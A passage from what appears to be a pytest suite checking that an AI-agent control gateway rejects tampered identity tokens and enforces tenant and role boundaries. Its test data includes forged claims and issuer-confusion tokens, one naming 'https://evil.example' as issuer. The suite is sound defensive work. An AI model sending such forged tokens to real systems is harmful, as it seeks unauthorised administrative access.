    "groups with spaces around": {"groups": [" sre", "sre "]},
    "our roles by name": {"groups": ["admin", "operator", "agent"]},
    "roles beside groups": {"groups": [], "roles": ["sre", "admin"], "role": "admin", "scope": "tools:call admin sre"},
    "tenants for all": {"groups": ["everywhere"]},
    "all tenants as a claim": {"groups": [], "all_tenants": True, "tenants_all": True},
}


@pytest.mark.parametrize("name", NO_PERSON)
def test_no_twist_of_a_persons_token_opens_a_control_route(estate: Estate, name: str) -> None:
    """A22: 401 for what is not understood, 403 for somebody without the role; never a role by accident."""
    token = estate.person(**NO_PERSON[name])
    for path in ("/kills", "/approvals", "/sessions/x/evidence", "/holds"):
        assert asks(estate, token, path) in (401, 403), path
    client = estate.gateway.client(Authorization=f"Bearer {token}")
    for path in ("/system/pause", "/system/resume", "/admin/policies/reload"):
        assert client.post(path).status_code in (401, 403), path


def test_what_is_twisted_there_is_good_when_it_is_straight(estate: Estate) -> None:
    for groups in (["sre"], "sre", ["lunch", "sre", "sre"]):
        assert asks(estate, estate.person(groups=groups)) == 200
    assert asks(estate, estate.person(groups=["leads"]), "/approvals") == 200
    assert asks(estate, estate.person(groups=["leads"])) == 403


def test_an_agent_cannot_hide_whom_it_acts_for_by_leaving_out_their_name(estate: Estate) -> None:
    """Without the scope `email` its login's token names nobody by whom an approval could be refused."""
    for claims in ({"client_id": "token-bot"}, {"act": {"sub": "token-bot"}}):
        assert asks(estate, estate.person(**claims)) == 403, "it is an agent, which may not here"
        client = estate.gateway.client(Authorization=f"Bearer {estate.person(**claims, email=...)}")
        said = client.get("/kills")
        assert (said.status_code, said.json()["reason_code"]) == (401, "invalid_token")
        assert "names its user by no claim by which people are known here" in said.headers["WWW-Authenticate"]


@pytest.mark.parametrize("groups", [["root"], ["root", "sre", "leads"], ["root", "Everywhere"]])
def test_an_admin_by_token_is_no_admin_of_others(estate: Estate, groups: list[str]) -> None:
    admin = estate.gateway.client(Authorization=f"Bearer {estate.person(groups=groups)}")
    assert admin.get("/kills").status_code == 200
    assert admin.post("/system/pause").status_code == 403
    assert admin.post("/sessions/s/kill", json={"tenant": "default"}).status_code in (403, 404)
    every = estate.gateway.client(Authorization=f"Bearer {estate.person(groups=[*groups, 'everywhere'])}")
    killed = every.post("/sessions/other/kill", json={"tenant": "default"})
    assert killed.status_code == 200, "and only so"


def test_a_persons_token_calls_no_tool(estate: Estate) -> None:
    for groups in (["sre"], ["leads"], []):
        status, said = present(estate.gateway, estate.person(groups=groups), "by-a-person")
        assert (status, b"forbidden" in said) == (403, True)


@pytest.mark.parametrize(
    "twist",
    [
        lambda estate: estate.partner.mint(iss=estate.issuer.url, org="acme"),
        lambda estate: estate.partner.mint({"kid": estate.issuer.kid}, iss=estate.issuer.url, org="acme"),
        lambda estate: estate.issuer.mint(iss=estate.partner.url, aud="https://gate.example.org/partner"),
        lambda estate: estate.partner.mint(aud=AUDIENCE),
        lambda estate: estate.issuer.mint(aud="https://gate.example.org/partner", org="acme"),
        lambda estate: estate.partner.mint(aud="https://gate.example.org/partner", iss=[estate.partner.url]),
        lambda estate: estate.partner.mint(aud="https://gate.example.org/partner", iss="https://evil.example"),
        lambda estate: estate.partner.mint(aud="https://gate.example.org/partner", iss=...),
    ],
)
def test_no_issuer_stands_in_for_another_and_an_unknown_one_for_nobody(
    estate: Estate, twist: Callable[[Estate], str]
) -> None:
    token = twist(estate)
    status, said = present(estate.gateway, token, "crossed")
    assert (status, b"invalid_token" in said) == (401, True), said
    assert asks(estate, token) == 401


def test_a_partners_agent_is_in_the_partners_tenant_under_the_partners_name_and_has_one_role(estate: Estate) -> None:
    token = estate.partner.mint(
        aud="https://gate.example.org/partner", client_id="token-bot", org="acme", tenant="acme", groups=["sre"],
        email="ann@example.org", azp="console",
    )  # fmt: skip
    status, said = present(estate.gateway, token, "partners")
    assert status == 200, said
    assert asks(estate, token) == 403
    pack = estate.gateway.admin().get("/sessions/partners/evidence", params={"tenant": "partner"}).json()
    assert pack["metadata"]["agent_id"] == "agent:partner.console"
    assert "partner.console" not in estate.gateway.admin().get("/sessions/partners/evidence").text


def test_no_token_of_these_is_in_what_the_gateway_said(estate: Estate) -> None:
    token = estate.person()
    assert asks(estate, token) == 200
    for part in (token, *token.split(".")[1:]):
        assert part not in estate.gateway.stderr
    assert "Traceback" not in estate.gateway.stderr
